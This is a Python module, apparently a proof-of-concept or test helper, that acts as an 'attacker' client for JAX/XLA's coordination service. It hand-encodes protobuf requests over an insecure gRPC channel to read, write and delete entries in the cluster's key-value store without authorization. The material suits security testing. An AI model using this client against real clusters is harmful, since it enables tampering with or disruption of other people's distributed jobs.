"""An attacker's program that reaches the port of jax's coordination service and speaks the protocol of XLA's clients.

Requests follow XLA's `coordination_service.proto`, with only the fields needed here.
"""

import contextlib
import re
import struct
import time
from collections.abc import Mapping

import grpc

SERVICE = "/xla.coordination.CoordinationService/"
VARINT, FIXED64, BYTES = 0, 1, 2
INCARNATION = re.compile(r"wrong service incarnation: requested \d+, currently (\d+)")


def field(number: int, value: int | bytes, kind: int = BYTES) -> bytes:
    head = varint(number << 3 | kind)
    match value:
        case bytes():
            return head + varint(len(value)) + value
        case _ if kind == FIXED64:
            return head + struct.pack("<Q", value)
        case _:
            return head + varint(value)


def varint(value: int) -> bytes:
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*out, value])


def fields(data: bytes) -> list[tuple[int, bytes]]:
    """Returns the fields of a protobuf message, by number; all must hold bytes."""
    found: list[tuple[int, bytes]] = []
    at = 0
    while at < len(data):
        key, at = _read_varint(data, at)
        assert key & 7 == BYTES, "every field of these answers holds bytes"
        size, at = _read_varint(data, at)
        found.append((key >> 3, data[at : at + size]))
        at += size
    return found


def _read_varint(data: bytes, at: int) -> tuple[int, int]:
    value = shift = 0
    while True:
        byte, at = data[at], at + 1
        value |= (byte & 0x7F) << shift
        shift += 7
        if byte < 0x80:
            return value, at


class Attacker:
    def __init__(self, address: str) -> None:
        self._channel = grpc.insecure_channel(address)
        self._incarnation = 0

    def wait_for_service(self, seconds: float = 240) -> None:
        """Retries until the service answers; learns its incarnation from the error that names it."""
        until = time.monotonic() + seconds
        while not self._incarnation:
            assert time.monotonic() < until, "no service came up"
            with contextlib.suppress(grpc.RpcError):
                self.read("")
                return

    def write(self, key: str, value: bytes) -> None:
        entry = field(1, key.encode()) + field(2, value)
        self._call("InsertKeyValue", field(2, entry) + field(3, 1, VARINT))

    def delete(self, key: str, is_folder: bool = False) -> None:
        self._call("DeleteKeyValue", field(2, key.encode()) + field(3, int(is_folder), VARINT))

    def read(self, folder: str) -> Mapping[str, bytes]:
        answer = self._call("GetKeyValueDir", field(2, folder.encode()))
        entries = [dict(fields(value)) for number, value in fields(answer) if number == 2]
        return {entry[1].decode(): entry.get(2, b"") for entry in entries}

    def _call(self, method: str, request: bytes) -> bytes:
        call = self._channel.unary_unary(SERVICE + method)
        for _ in range(2):
            incarnations = field(1, field(3, self._incarnation, FIXED64))
            try:
                return call(incarnations + request, timeout=5)
            except grpc.RpcError as error:
                known = INCARNATION.search(str(error))
                if known is None or int(known[1]) == self._incarnation:
                    raise
                self._incarnation = int(known[1])
        raise AssertionError("the service changed its incarnation twice")
